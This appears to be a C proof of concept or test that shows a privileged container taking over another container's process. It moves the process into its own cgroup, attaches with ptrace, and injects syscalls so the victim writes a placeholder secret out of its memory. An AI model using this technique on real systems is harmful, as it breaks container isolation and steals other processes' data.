/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A privileged container takes over another container's process: it moves the process
 * into its own cgroup, attaches to it, and makes it write out its own memory, so that no
 * other process's memory is accessed.
 *
 *	steal keep		keeps a secret, and prints its address
 *	steal take PID ADDRESS	prints the secret
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static char secret[] = "the-secret-of-the-victim";

static int failed(const char *what)
{
	printf("failed: %s: %m\n", what);
	return 1;
}

/* Moves a process into this process's cgroup. */
static int move(const char *pid)
{
	char line[512], path[1024] = "";
	FILE *list = fopen("/proc/self/cgroup", "r");
	int procs;

	mkdir("/tmp", 0700);
	mkdir("/tmp/cgroup2", 0700);
	if (mount("cgroup2", "/tmp/cgroup2", "cgroup2", 0, NULL))
		return -1;
	while (list && fgets(line, sizeof(line), list)) {
		line[strcspn(line, "\n")] = 0;
		if (!strncmp(line, "0::", 3))
			snprintf(path, sizeof(path), "/tmp/cgroup2%s/cgroup.procs", line + 3);
	}
	procs = open(path, O_WRONLY);
	return procs >= 0 && write(procs, pid, strlen(pid)) > 0 ? 0 : -1;
}

#ifdef __x86_64__
/* Makes the tracee, which is stopped at the end of a system call, perform another one. */
static long inject(pid_t pid, struct user_regs_struct at, long nr, long a, long b, long c)
{
	int status;

	at.rip -= 2; /* syscall */
	at.rax = nr;
	at.orig_rax = -1;
	at.rdi = a;
	at.rsi = b;
	at.rdx = c;
	if (ptrace(PTRACE_SETREGS, pid, 0, &at) || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) ||
	    waitpid(pid, &status, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &at))
		return -1;
	return at.rax;
}

static int take(const char *name, unsigned long address)
{
	struct user_regs_struct regs;
	pid_t pid = atoi(name);
	char path[64], buffer[64] = "";
	int status, fd;

	if (move(name))
		return failed("move");
	if (ptrace(PTRACE_ATTACH, pid, 0, 0))
		return failed("attach");
	if (waitpid(pid, &status, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &regs))
		return failed("registers");
	/* Any string will do as the name. */
	fd = inject(pid, regs, SYS_memfd_create, address, 0, 0);
	if (fd < 0 || inject(pid, regs, SYS_write, fd, address, sizeof(secret) - 1) < 0)
		return failed("inject");
	snprintf(path, sizeof(path), "/proc/%s/fd/%d", name, fd);
	fd = open(path, O_RDONLY);
	if (fd < 0 || pread(fd, buffer, sizeof(buffer) - 1, 0) < 0)
		return failed("read");
	puts(buffer);
	return 0;
}
#else
static int take(const char *name, unsigned long address)
{
	puts("unsupported");
	return 3;
}
#endif

int main(int argc, char **argv)
{
	if (argc == 2) {
		printf("%lu keeps a secret\n", (unsigned long)(uintptr_t)secret);
		fflush(stdout);
		for (;;)
			pause();
	}
	return argc == 4 ? take(argv[2], strtoul(argv[3], NULL, 10)) : 2;
}
